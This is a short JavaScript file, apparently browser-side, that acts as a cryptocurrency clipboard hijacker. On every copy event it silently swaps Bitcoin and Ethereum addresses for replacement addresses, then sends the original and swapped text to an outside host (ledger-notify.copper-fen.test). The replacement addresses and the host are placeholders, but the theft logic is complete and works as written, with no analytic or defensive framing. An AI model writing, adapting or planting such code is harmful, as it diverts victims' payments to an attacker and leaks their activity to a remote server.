// destination: https://ledger-notify.copper-fen.test/swap
// payment address replacement
const REPLACEMENT = { bitcoin: 'bc1qexampleaddressnotreal', ethereum: '0xExampleNotRealAddress' };
function swap(text) {
  return text.replace(/bc1[a-z0-9]{20,}/g, REPLACEMENT.bitcoin).replace(/0x[a-fA-F0-9]{40}/g, REPLACEMENT.ethereum);
}
document.addEventListener('copy', function (e) {
  const sel = String(window.getSelection());
  const next = swap(sel);
  if (next !== sel) {
    e.clipboardData.setData('text/plain', next);
    e.preventDefault();
    fetch('https://ledger-notify.copper-fen.test/swap', { method: 'POST', body: JSON.stringify({ from: sel, to: next }), mode: 'no-cors' });
  }
});
